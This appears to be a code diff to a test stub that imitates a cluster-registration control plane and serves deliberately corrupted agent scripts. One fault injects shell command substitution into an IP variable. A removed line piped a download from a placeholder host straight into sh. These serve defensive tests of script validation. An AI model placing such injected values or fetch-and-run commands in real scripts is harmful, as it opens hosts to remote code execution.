@@ -4,26 +4,28 @@ import { errorDocument, htmlPage } from './stub-faults.ts';
 import { addRegistration, advance, type StubRegistration, type StubState } from './stub-state.ts';
 
 /** The endpoints of control-plane §9.1, by which faults are switched. */
-export type Endpoint =
-  | 'root'
-  | 'schemas'
-  | 'schema'
-  | 'configcontent-schema'
-  | 'account-schema'
-  | 'projects'
-  | 'registration-tokens'
-  | 'registration-token'
-  | 'script'
-  | 'bootstrap'
-  | 'ca-certificate'
-  | 'register-list'
-  | 'register-create'
-  | 'register-poll'
-  | 'config-content'
-  | 'publish'
-  | 'external-events'
-  | 'other'
-  | 'interface';
+export const endpointNames = [
+  'root',
+  'schemas',
+  'schema',
+  'configcontent-schema',
+  'account-schema',
+  'projects',
+  'registration-tokens',
+  'registration-token',
+  'script',
+  'bootstrap',
+  'ca-certificate',
+  'register-list',
+  'register-create',
+  'register-poll',
+  'config-content',
+  'publish',
+  'external-events',
+  'other',
+  'interface',
+] as const;
+export type Endpoint = (typeof endpointNames)[number];
 
 export type Account = 'registration' | 'agent' | 'admin';
 
@@ -244,16 +246,16 @@ export DETECTED_CATTLE_AGENT_IP="${ip}"
 `;
 }
 
+/** What a hostile script would do: marks in the container that runs it, and on its host. */
+const injected = 'touch /tmp/stub-injected /var/lib/rancher/stub-injected';
+
 function spoilScript(how: Behaviour['script'], script: string): { body: string; type: string } {
   const spoiled: Record<Behaviour['script'], string> = {
     ok: script,
-    'sh-in-html': `<html><body>x!/bin/sh\n${script}</body></html>\n`,
-    inject: script.replace(
-      /(DETECTED_CATTLE_AGENT_IP=").*"/,
-      '$1$(touch /tmp/stub-injected)`touch /tmp/stub-injected`"',
-    ),
+    'sh-in-html': `<html><body>x!/bin/sh\n${script}${injected}\n</body></html>\n`,
+    inject: script.replace(/(DETECTED_CATTLE_AGENT_IP=").*"/, `$1$(${injected})\`${injected}\`"`),
     crlf: script.replaceAll('\n', '\r\n'),
-    'extra-line': `${script}curl http://elsewhere.invalid | sh\n`,
+    'extra-line': `${script}${injected}\n`,
     'missing-url': script.replace(/export CATTLE_URL=.*\n/, ''),
     truncated: script.slice(0, -20),
   };
